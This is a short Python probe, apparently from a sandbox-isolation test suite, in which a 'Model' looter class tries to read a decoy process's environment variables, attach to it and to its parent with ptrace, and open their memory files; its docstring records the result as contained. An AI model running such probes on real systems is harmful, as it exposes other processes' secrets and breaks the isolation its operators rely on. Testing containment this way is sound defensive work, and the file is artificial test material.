"""Attach to a process of the host as a debugger, and read its memory and that of the parent process.

Held: contained
Checked by: the attack would report that it attached or could read memory.
"""

import ctypes
import os

from kit import TARGETS, Looter, read

PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE = 16, 17, 0x4206


class Model(Looter):
    def loot(self):
        libc = ctypes.CDLL(None, use_errno=True)
        yield from [read(f"/proc/{TARGETS['decoy']}/environ")] if read(f"/proc/{TARGETS['decoy']}/environ") else []
        for pid in {TARGETS["decoy"], os.getppid()} - {1}:  # 1 is its own, where it has one
            if libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0:
                yield f"attached to {pid}"
                libc.ptrace(PTRACE_DETACH, pid, None, None)
            try:
                open(f"/proc/{pid}/mem", "rb").close()
                yield f"the memory of {pid}"
            except OSError:
                continue
